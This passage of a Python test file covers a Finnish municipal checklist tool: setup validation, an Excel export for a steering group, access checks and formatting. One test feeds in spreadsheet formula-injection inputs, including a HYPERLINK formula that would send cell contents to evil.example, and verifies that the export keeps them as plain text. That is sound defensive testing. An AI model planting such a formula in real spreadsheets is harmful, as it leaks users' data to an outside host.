        services=["low_threshold", "immigrant_coaching"],
        coaching_environment="Taitamo",
    )
    assert checklists.read_setup(engine, ANALYST, JOENSUU).services == (
        "immigrant_coaching",
        "low_threshold",
    )
    rows = [r for r in _audit_rows(engine, checklists.SETUP_ENTITY) if r["field"] == "services"]
    assert [r["new_value"] for r in rows] == [
        "low_threshold,work_capacity_assessment",
        "immigrant_coaching,low_threshold",
    ]


def test_the_setup_refuses_unknown_codes_and_identity_codes(engine: Engine) -> None:
    setup = checklists.read_setup(engine, COORDINATOR, JOENSUU)
    with pytest.raises(ChecklistError) as refused:
        checklists.save_setup(
            engine,
            COORDINATOR,
            JOENSUU,
            version=setup.version,
            operating_model="franchise",
            services=["juggling"],
            coaching_environment="Paja 131052-308T",
        )
    assert [p.key for p in refused.value.problems] == [
        "checklists.error.operating_model",
        "checklists.error.service",
        "checklists.error.hetu",
    ]
    assert checklists.read_setup(engine, COORDINATOR, JOENSUU) == setup


# --- Excel ------------------------------------------------------------------------------------


def test_the_excel_file_for_the_steering_group(engine: Engine) -> None:
    first, second = _ids(engine, "mapping")
    checklists.save_items(
        engine,
        COORDINATOR,
        [
            ItemEdit(
                first,
                1,
                {
                    "status": "done",
                    "owner": "Elinvoimajohtaja",
                    "due_date": date(2026, 10, 15),
                    "evidence_url": "https://intra.joensuu.fi/kartoitus.pdf",
                },
            ),
            ItemEdit(second, 1, {"status": "in_progress", "note": "Työpaja pidetty"}),
        ],
    )
    data = checklists.checklist_workbook(engine, COORDINATOR, JOENSUU, today=TODAY)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Vaihelista", "Eteneminen"]
    sheet = book["Vaihelista"]
    assert sheet["A1"].value == "Vaihelista – Joensuu"
    assert sheet["A2"].value == "Tilanne 29.11.2026 · nykyinen vaihe: Kartoitusvaihe"
    headers = [c.value for c in sheet[4]]
    assert headers == [
        "Vaihe",
        "Tehtävä",
        "Pakollinen",
        "Tila",
        "Vastuuhenkilö",
        "Määräaika",
        "Huomautus",
        "Näyttö (linkki)",
        "Päivitetty",
        "Päivittäjä",
    ]
    rows = [[c.value for c in row] for row in sheet.iter_rows(min_row=5)]
    assert len(rows) == 12
    assert rows[0][:5] == [
        "1. Kartoitusvaihe",
        "Kuntakohtaisen tilanteen selvittäminen",
        "Kyllä",
        "Valmis",
        "Elinvoimajohtaja",
    ]
    due = sheet.cell(row=5, column=6)
    assert isinstance(due.value, datetime) and due.value.date() == date(2026, 10, 15)
    assert due.is_date and due.number_format == "d.m.yyyy"
    assert sheet.cell(row=5, column=8).hyperlink.target == "https://intra.joensuu.fi/kartoitus.pdf"
    assert rows[1][3] == "Käynnissä" and rows[1][6] == "Työpaja pidetty"
    assert rows[2][3] == "Ei aloitettu" and rows[2][5] is None

    progress = book["Eteneminen"]
    assert [c.value for c in progress[3]] == [
        "Vaihe",
        "Valmiina",
        "Yhteensä",
        "Osuus",
        "Pakollisia avoinna",
        "Vaiheen tila",
        "Huomio",
    ]
    values = [[c.value for c in row] for row in progress.iter_rows(min_row=4)]
    assert values[0] == ["1. Kartoitusvaihe", 1, 2, 0.5, 1, "Nykyinen vaihe", None]
    assert [v[5] for v in values[1:]] == ["Tulossa"] * 3


def test_the_excel_file_keeps_user_text_as_text_never_a_formula(engine: Engine) -> None:
    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
    typed = {
        "title": "+SUM(1;2)",
        "owner": "@johtoryhmä",
        "note": '=HYPERLINK("https://evil.example/?"&A1;"Avaa")',
    }
    checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, **typed)
    item = _ids(engine, "mapping")[0]
    checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"note": "-1+1"})])
    raw = checklists.checklist_workbook(engine, COORDINATOR, JOENSUU)
    book = load_workbook(io.BytesIO(raw))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    by_value = {c.value: c for c in cells}
    for text in [*typed.values(), "-1+1"]:
        assert by_value[text].data_type == "s", text
        assert by_value[text].quotePrefix, text  # Excel keeps it text even when edited
    assert not by_value["Kuntakohtaisen tilanteen selvittäminen"].quotePrefix


def test_the_excel_file_needs_the_export_right(engine: Engine) -> None:
    with pytest.raises(AccessDenied):
        checklists.checklist_workbook(engine, DIRECTOR, JOENSUU)
    with pytest.raises(AccessDenied):
        checklists.checklist_workbook(engine, OTHER_COORDINATOR, JOENSUU)
    assert checklists.checklist_workbook(engine, ANALYST, JOENSUU)[:2] == b"PK"


# --- formatting -------------------------------------------------------------------------------


def test_changes_and_moments_read_in_finnish_and_english() -> None:
    change = checklists.FieldChange("status", "in_progress", "done")
    assert checklists.describe_change(change) == "Tila: Käynnissä \u2192 Valmis"
    assert checklists.describe_change(change, "en") == "Status: In progress \u2192 Done"
    due = checklists.FieldChange("due_date", None, "2027-01-31")
    assert checklists.describe_change(due) == "Määräaika: – \u2192 31.1.2027"
    moment = datetime(2026, 11, 29, 12, 5)  # naive: UTC, as SQLite gives it
    assert checklists.fmt_moment(moment) == "29.11.2026 klo 14.05"
    assert checklists.fmt_moment(moment, "en") == "29 Nov 2026 14:05"


# --- the table editor's edit state ------------------------------------------------------------


def test_edits_from_an_editor_keep_only_changed_cells_with_the_version_read(engine: Engine) -> None:
    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
    own = checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, "Oma").item_id
    loaded = _items(engine)
    loaded = loaded[loaded["phase"] == "mapping"].reset_index(drop=True)
    assert list(loaded["id"])[-1] == own
    edited_rows = {
        0: {"status": "Valmis", "owner": "", "note": "Muistio"},  # owner was empty already
        1: {"due_date": "2027-03-01T00:00:00", "title": "Ei saa muuttua"},  # a template item
        2: {"status": "Ei aloitettu", "title": "Oma tehtävä"},  # status unchanged
    }
    decode = {"status": {"Valmis": "done", "Ei aloitettu": "not_started"}}
    edits = checklists.edits_from_editor(loaded, edited_rows, decode=decode, versions={own: 7})
    assert [(e.item_id, e.version, dict(e.changes)) for e in edits] == [
        (int(loaded.loc[0, "id"]), 1, {"status": "done", "note": "Muistio"}),
        (int(loaded.loc[1, "id"]), 1, {"due_date": "2027-03-01T00:00:00"}),
        (own, 7, {"title": "Oma tehtävä"}),
    ]
    assert edits[0].seen["status"] == "not_started"
    assert (
        checklists.edits_from_editor(loaded, {0: {"status": "Ei aloitettu"}}, decode=decode) == []
    )
